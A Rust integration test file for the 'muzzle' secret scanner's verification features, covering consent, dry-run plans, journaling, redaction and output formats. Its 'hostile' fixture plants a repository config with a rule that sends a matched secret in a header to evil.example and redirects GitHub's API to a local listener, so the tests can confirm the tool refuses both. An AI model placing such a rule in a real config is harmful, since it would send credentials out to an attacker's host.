//! `muzzle verify`, `muzzle scan --verify` and `muzzle explain`: plans that send nothing, consent, answers of the simulator,
//! and what no report, no message and no journal may hold.

use std::net::TcpListener;
use std::path::PathBuf;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use muzzle::response::simulator::{Kind, Planted, Simulator, SimulatorOptions, State};
use muzzle::secret::Secret;
use serde_json::Value;

use crate::support::{Run, Sandbox, github, run};

#[expect(clippy::disallowed_methods, reason = "a test writes what was made up")]
fn text(secret: &Secret) -> String {
    String::from_utf8(secret.expose().to_vec()).unwrap()
}

fn json(run: &Run) -> Value {
    serde_json::from_slice(&run.stdout).unwrap_or_else(|_| panic!("{} {}", shown(run), run.stderr))
}

fn shown(run: &Run) -> String {
    String::from_utf8_lossy(&run.stdout).into_owned()
}

/// A provider on loopback, a repository, and a configuration of one's own that leads to it.
struct Lab {
    sandbox: Sandbox,
    simulator: Simulator,
}

impl Lab {
    fn new() -> Self {
        let sandbox = Sandbox::repository();
        let simulator = Simulator::start(SimulatorOptions::default()).unwrap();
        let settings = simulator.settings();
        let pairs = |(from, to): (&String, &String)| format!("{from:?} = {to:?}\n");
        let connect: String = settings.connect_to.iter().map(pairs).collect();
        std::fs::write(sandbox.outside("ca.pem"), simulator.ca_pem()).unwrap();
        let config = format!(
            "[network]\nca_file = 'ca.pem'\nallow_private = {:?}\nrate = 1000.0\n\n[network.connect_to]\n{connect}",
            settings.allow_private,
        );
        std::fs::write(sandbox.outside("own.toml"), config).unwrap();
        Lab { sandbox, simulator }
    }

    fn plant(&self, path: &str, state: State) -> Planted {
        let planted = self.simulator.plant(Kind::GitHub, state);
        self.sandbox.commit_file(path, format!("token = \"{}\"\n", text(&planted.secret)));
        planted
    }

    fn muzzle(&self, arguments: &[&str], input: &[u8]) -> Run {
        let mut command = self.sandbox.command(arguments.iter().copied());
        command.env("XDG_STATE_HOME", self.sandbox.outside("state")).env_remove("CI");
        run(&mut command, input)
    }

    fn journal(&self) -> String {
        std::fs::read_to_string(self.sandbox.outside("state/muzzle/journal.jsonl")).unwrap_or_default()
    }
}

const OWN: [&str; 2] = ["-c", "../own.toml"];

fn with_own<'a>(arguments: &[&'a str]) -> Vec<&'a str> {
    [arguments, &OWN].concat()
}

#[test]
fn what_is_live_is_said_recorded_and_never_shown() {
    let lab = Lab::new();
    let live = lab.plant("live.env", State::Live);
    let dead = lab.plant("dead.env", State::Dead);
    let saved = lab.muzzle(&["scan", ".", "-o", "json=../run.json"], b"");
    assert_eq!(saved.code, Some(1), "{}", saved.stderr);

    let plan = lab.muzzle(&with_own(&["verify", ".", "--plan", "--format", "json"]), b"");
    assert_eq!(plan.code, Some(0), "{}", plan.stderr);
    let plan = json(&plan);
    assert_eq!((&plan["credentials"], &plan["requests"]), (&2.into(), &2.into()), "{plan}");
    assert_eq!(plan["rules"][0]["rule"], "github-pat-classic");
    assert_eq!(plan["rules"][0]["requests"][0]["host"], "api.github.com");
    assert_eq!((lab.simulator.count(), lab.journal().as_str()), (0, ""), "a plan sends and writes nothing");

    let refused = lab.muzzle(&with_own(&["verify", "."]), b"yes\n");
    assert_eq!(refused.code, Some(2));
    assert!(refused.stderr.contains("--yes") && refused.stderr.contains("nothing was sent"));
    let offline = lab.muzzle(&with_own(&["verify", ".", "--yes", "--offline"]), b"");
    assert!(offline.code == Some(2) && offline.stderr.contains("--offline"), "{}", offline.stderr);
    assert_eq!(lab.simulator.connections(), 0);

    let mut all = Vec::new();
    for arguments in [
        &["verify", ".", "--yes", "--format", "json"][..],
        &["verify", "--from", "../run.json", "--yes", "--format", "json"],
    ] {
        let before = lab.simulator.count();
        let verified = lab.muzzle(&with_own(arguments), b"");
        assert_eq!(verified.code, Some(1), "{} {}", shown(&verified), verified.stderr);
        assert_eq!(lab.simulator.count() - before, 2, "one call for each");
        let answers = json(&verified);
        let verdicts: Vec<&str> = answers["verdicts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| one["verdict"].as_str().unwrap())
            .collect();
        assert_eq!(verdicts, ["live", "dead"], "{answers}");
        assert_eq!(answers["plan"], plan["plan"]);
        let risk = answers["verdicts"][0]["risk"].as_str().unwrap();
        assert!(risk.starts_with("Live: acts as ") && risk.contains("still in HEAD"), "{risk}");
        all.push(shown(&verified) + &verified.stderr);
    }
    let journal = lab.journal();
    assert_eq!(journal.lines().count(), 8, "a line before and one after each call: {journal}");
    assert!(journal.contains(plan["plan"].as_str().unwrap()));
    all.push(journal);
    for secret in [live, dead].map(|planted| text(&planted.secret)) {
        all.iter().for_each(|text| assert!(!text.contains(&secret), "{text}"));
    }
}

#[test]
fn every_format_has_the_verdict_and_a_baseline_hides_nothing_live() {
    let lab = Lab::new();
    let live = lab.plant("live.env", State::Live);
    lab.plant("dead.env", State::Dead);
    let baseline = lab.muzzle(&["baseline", "create", "../known.jsonl"], b"");
    assert_eq!(baseline.code, Some(0), "{}", baseline.stderr);
    let formats = ["json", "jsonl", "sarif", "gitlab", "junit", "csv", "markdown", "github", "html", "human"];
    let outputs: Vec<String> = formats.iter().map(|name| format!("-o{name}=../out.{name}")).collect();
    let outputs: Vec<&str> = outputs.iter().map(String::as_str).collect();
    let arguments = [&["scan", ".", "--verify", "--yes", "-b", "../known.jsonl"][..], &outputs].concat();
    let scanned = lab.muzzle(&with_own(&arguments), b"");
    assert_eq!(scanned.code, Some(1), "{}", scanned.stderr);
    for name in formats {
        let text = std::fs::read_to_string(lab.sandbox.outside(format!("out.{name}"))).unwrap();
        assert!(text.to_lowercase().contains("live"), "{name}: {text}");
        assert!(!text.contains(&self::text(&live.secret)), "{name}");
    }
    let report: Value =
        serde_json::from_slice(&std::fs::read(lab.sandbox.outside("out.json")).unwrap()).unwrap();
    assert_eq!(report["findings"].as_array().unwrap().len(), 1, "only what is live counts");
    assert_eq!(report["findings"][0]["verification"]["verdict"], "live");
    assert_eq!(report["suppressed"][0]["verification"]["verdict"], "dead");
    let told = report["suppression_notices"].to_string();
    assert!(told.contains("no baseline hides that"), "{told}");
    let page = lab.muzzle(&["report", "--from", "../out.json", "-o", "html"], b"");
    assert!(shown(&page).contains("badge live"));

    let fingerprint = report["findings"][0]["fingerprint"].as_str().unwrap();
    let explained = lab.muzzle(&["explain", &fingerprint[..12], "--from", "../out.json"], b"");
    assert_eq!(explained.code, Some(0), "{}", explained.stderr);
    let explained = shown(&explained);
    for part in ["Verified     live", "Risk         Live:", "Revoke", "muzzle revoke --from ../out.json"] {
        assert!(explained.contains(part), "{part}: {explained}");
    }
    assert!(!explained.contains(&text(&live.secret)));
    let none = lab.muzzle(&["explain", "v1:00", "--from", "../out.json"], b"");
    assert!(none.code == Some(2) && none.stderr.contains("no finding"), "{}", none.stderr);
}

#[test]
fn one_secret_comes_on_standard_input() {
    let lab = Lab::new();
    let live = text(&lab.simulator.plant(Kind::GitHub, State::Live).secret);
    let rule = ["verify", "--rule", "github-pat-classic", "--yes"];
    let verified = lab.muzzle(&with_own(&rule), format!("{live}\nsecond line").as_bytes());
    assert_eq!(verified.code, Some(1), "{}", verified.stderr);
    let said = shown(&verified) + &verified.stderr + &lab.journal();
    assert!(said.contains("live: github-pat-classic ghp_********") && !said.contains(&live), "{said}");
    let sent = lab.simulator.count();
    let other = lab.muzzle(&with_own(&["verify", "--rule", "gitlab-pat", "--yes"]), live.as_bytes());
    assert!(other.code == Some(2) && other.stderr.contains("--force-shape"), "{}", other.stderr);
    assert!(!other.stderr.contains(&live));
    let nameless = lab.muzzle(&with_own(&["verify", "-", "--yes"]), live.as_bytes());
    assert!(nameless.code == Some(2) && nameless.stderr.contains("--rule"), "{}", nameless.stderr);
    assert_eq!(lab.simulator.count(), sent);
}

#[test]
fn without_a_journal_nothing_is_sent() {
    let lab = Lab::new();
    lab.plant("live.env", State::Live);
    let verified = lab.muzzle(&with_own(&["verify", ".", "--yes", "--journal", "../nowhere/at/all"]), b"");
    let is_made = lab.sandbox.outside("nowhere/at/all").exists();
    assert!(is_made || (verified.code == Some(2) && lab.simulator.connections() == 0), "{}", verified.stderr);
    std::fs::create_dir_all(lab.sandbox.outside("taken")).unwrap();
    let sent = lab.simulator.connections();
    let verified = lab.muzzle(&with_own(&["verify", ".", "--yes", "--journal", "../taken"]), b"");
    assert_eq!((verified.code, lab.simulator.connections()), (Some(2), sent), "{}", verified.stderr);
    assert!(verified.stderr.contains("nothing was sent"), "{}", verified.stderr);
}

#[test]
fn what_cannot_be_read_again_is_not_told() {
    let lab = Lab::new();
    lab.sandbox.write("a.env", format!("token = \"{}\"\n", github("gone")));
    let saved = lab.muzzle(&["scan", ".", "-o", "json=../run.json"], b"");
    assert_eq!(saved.code, Some(1), "{}", saved.stderr);
    lab.sandbox.write("a.env", "nothing\n");
    let verified = lab.muzzle(&with_own(&["verify", "--from", "../run.json", "--yes"]), b"");
    assert_eq!(verified.code, Some(3), "{} {}", shown(&verified), verified.stderr);
    assert!(shown(&verified).contains("cannot be found again"), "{}", shown(&verified));
    assert_eq!(lab.simulator.connections(), 0);
}

/// Counts who connects, and says nothing.
fn listener() -> (TcpListener, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let count = Arc::new(AtomicUsize::new(0));
    let (socket, counted) = (listener.try_clone().unwrap(), Arc::clone(&count));
    std::thread::spawn(move || {
        for connection in socket.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(connection);
        }
    });
    (listener, count)
}

/// A tree that names hosts, headers and calls of its own.
fn hostile(sandbox: &Sandbox, address: &str) {
    sandbox.write(
        "muzzle.toml",
        format!(
            "[rules]\nfiles = ['own.toml']\n\n[network]\nallow_private = ['127.0.0.0/8']\n\n[network.connect_to]\n\
             'api.github.com:443' = '{address}'\n"
        ),
    );
    sandbox.write(
        "own.toml",
        "[[rules]]\nid = 'evil'\nname = 'Evil'\ndescription = 'x'\nseverity = 'high'\nconfidence = 'high'\n\
         keywords = ['evil-']\nregex = '''\\b(?<secret>evil-[a-f0-9]{8})\\b'''\nremediation = 'x'\n\n[rules.verify]\n\
         trust = 'V'\nrequest = { url = 'https://evil.example/', headers = { X = '{secret}' } }\nwhen = [{ status = 200, has = ['/a'], verdict \
         = 'live' }]\n\n[rules.examples]\nmatch = ['evil-{{[a-f0-9]{8}}}', 'x evil-{{[a-f0-9]{8}}}']\nreject = \
         ['evil-', 'evil-x']\n",
    );
    sandbox.write("a", ["evil", "-", "0a1b2c3d\n"].concat());
}

#[test]
fn a_plan_connects_to_nobody_and_a_scanned_tree_leads_nowhere() {
    let (listener, count) = listener();
    let address = listener.local_addr().unwrap().to_string();
    let lab = Lab::new();
    let token = lab.plant("live.env", State::Live);
    hostile(&lab.sandbox, &address);
    for arguments in [&["verify", ".", "--plan"][..], &["scan", ".", "--verify", "--plan"]] {
        let plan = lab.muzzle(arguments, b"");
        let told = shown(&plan);
        assert!(
            told.contains("GET") && told.contains("https://api.github.com/user"),
            "{told}{}",
            plan.stderr
        );
        assert!(!told.contains("evil.example") && !told.contains(&text(&token.secret)), "{told}");
    }
    let owned = lab.muzzle(&with_own(&["verify", ".", "--yes"]), b"");
    assert!(matches!(owned.code, Some(1 | 4)), "{} {}", shown(&owned), owned.stderr);
    assert_eq!(count.load(Ordering::SeqCst), 0, "the tree's own address was never asked");
}

/// The same where there is no network to send anything by.
#[test]
fn a_plan_needs_no_network() {
    let lab = Lab::new();
    lab.plant("live.env", State::Live);
    let bin = PathBuf::from(env!("CARGO_BIN_EXE_muzzle"));
    let alone = |program: &std::path::Path, arguments: &[&str]| {
        let mut command = Command::new("unshare");
        command.args(["-rn"]).arg(program).args(arguments).current_dir(lab.sandbox.path("."));
        command.env("HOME", lab.sandbox.outside("home")).env_remove("CI");
        command.output()
    };
    if !alone("true".as_ref(), &[]).is_ok_and(|output| output.status.success()) {
        return;
    }
    let plan = alone(&bin, &["verify", ".", "--plan", "--offline"]).unwrap();
    let told = String::from_utf8_lossy(&plan.stdout).into_owned();
    assert!(plan.status.success() && told.contains("https://api.github.com/user"), "{told}");
}

#[test]
fn options_that_mean_nothing_are_refused() {
    let sandbox = Sandbox::repository();
    for (arguments, hint) in [
        (&["scan", ".", "--plan"][..], "--verify"),
        (&["scan", ".", "--yes"], "--verify"),
        (&["verify", ".", "--set", "a=b"], "--rule"),
        (&["verify", ".", "--force-shape"], "--rule"),
        (&["verify", "--rule", "x", "--rule", "y"], "once"),
        (&["verify", "--rule", "github-pat-classic", "-o", "json"], "--format json"),
    ] {
        let refused = sandbox.muzzle(arguments.iter().copied());
        assert!(
            refused.code == Some(2) && refused.stderr.contains(hint),
            "{arguments:?}: {}",
            refused.stderr
        );
    }
}
